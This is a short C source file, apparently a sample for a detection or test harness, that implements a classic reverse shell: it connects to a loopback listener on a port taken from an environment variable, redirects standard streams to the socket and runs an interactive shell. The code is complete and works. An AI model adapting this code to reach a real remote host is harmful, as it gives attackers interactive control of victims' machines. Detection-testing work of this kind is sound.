/* revshell (C): connect to the loopback listener at $RD_PORT, put the
 * socket on 0/1/2 and exec an interactive shell, the classic shape. */
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>
#include "mark.h"

int main(void) {
	int port = atoi(getenv("RD_PORT"));
	RD_BEGIN("revshell");
	int s = socket(AF_INET, SOCK_STREAM, 0);
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port)};
	inet_pton(AF_INET, "127.0.0.1", &a.sin_addr);
	if (connect(s, (struct sockaddr *)&a, sizeof a) != 0) return 1;
	dup2(s, 0); dup2(s, 1); dup2(s, 2);
	char *argv[] = {"sh", "-i", NULL};
	execve("/bin/sh", argv, NULL);
	return 1;
}
